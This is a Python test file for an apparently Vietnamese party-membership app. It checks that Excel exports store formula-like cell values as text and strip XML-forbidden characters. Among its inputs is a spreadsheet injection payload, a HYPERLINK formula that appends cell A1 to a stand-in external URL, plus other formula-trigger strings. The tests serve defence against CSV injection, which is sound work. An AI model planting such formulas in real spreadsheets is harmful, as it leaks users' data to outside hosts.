"""Exports can neither break nor be weaponised by a cell: formula-like text is written as
text (OWASP CSV injection) and characters XML forbids are dropped, even for rows stored
before the validation layer refused them."""
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from dangbo.core import tabular
from dangbo.members.models import Member

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")'


def read_back(content: bytes):
    """The header row (the one repeated on every printed page) and the rows under it."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header_row = int((sheet.print_title_rows or "1:1").split(":")[0].strip("$"))
    return [list(row) for row in sheet.iter_rows(min_row=header_row)]


@pytest.mark.parametrize("value", [FORMULA, "+84912345678", "-1", "@SUM(A1:A9)", "\tx", "\rx"])
def test_formula_like_text_is_written_and_read_back_as_text(value):
    cells = read_back(tabular.export_xlsx(["Giá trị"], [(value,)], "Thử"))
    cell = cells[1][1]
    assert cell.data_type == "s" and cell.value == value


def test_characters_xml_forbids_are_dropped_and_the_file_still_opens():
    cells = read_back(tabular.export_xlsx(["Họ và tên"], [("Nguyễn\x00 Văn\x0b An\ufffe",)], "Thử"))
    assert cells[1][1].value == "Nguyễn Văn An"


def test_a_member_named_with_nul_and_a_formula_exports_and_reads_back_as_text(tree, login, on_postgresql):
    member = tree.a1_members[0]
    # Rows stored before the validation layer (which now refuses NUL) are written directly.
    # PostgreSQL has never stored NUL, so there the legacy row carries the formula only.
    legacy_name = "Nguyễn Văn An" if on_postgresql else "Nguyễn\x00 Văn An"
    Member.objects.filter(pk=member.pk).update(full_name=legacy_name, home_town=FORMULA, phone="+84912345678")
    response = login(tree.admin).get("/dang-vien/xuat.xlsx")
    assert response.status_code == 200
    rows = read_back(b"".join(response.streaming_content))
    header = [cell.value for cell in rows[0]]
    row = next(r for r in rows[1:] if r[header.index("Số CCCD")].value == member.citizen_id)
    assert row[header.index("Họ và tên")].value == "Nguyễn Văn An"
    home_town = row[header.index("Quê quán")]
    assert home_town.value == FORMULA and home_town.data_type == "s"
    assert row[header.index("Số điện thoại")].value == "+84912345678"


def test_the_import_template_s_reference_sheet_is_safe_too():
    spec = tabular.TableSpec("Thử", [tabular.Column("code", "Mã")])
    content = tabular.template_xlsx(spec, extra_sheets={"Mã chi bộ": (["Mã", "Tên"], [("T1", "=1+1\x00")])})
    sheet = load_workbook(io.BytesIO(content))["Mã chi bộ"]
    assert sheet["B2"].value == "=1+1" and sheet["B2"].data_type == "s"


def test_a_scorecard_with_a_formula_in_a_target_exports_as_text(tree, login):
    from dangbo.documents import services
    from dangbo.documents.tests.factories import document, issuer

    paper = document(tree.admin, issuer(tree.commune_a, code="ĐU"), "01-NQ/ĐU", issued_on=date(2024, 3, 1))
    services.add_target(tree.admin, paper, wording="=1+2 chi bộ trong sạch vững mạnh", target_value=90)
    response = login(tree.admin).get(f"/van-ban/{paper.pk}/chi-tieu.xlsx")
    cells = [cell for row in read_back(response.content) for cell in row if cell.value]
    wording = next(cell for cell in cells if str(cell.value).startswith("=1+2"))
    assert wording.data_type == "s"

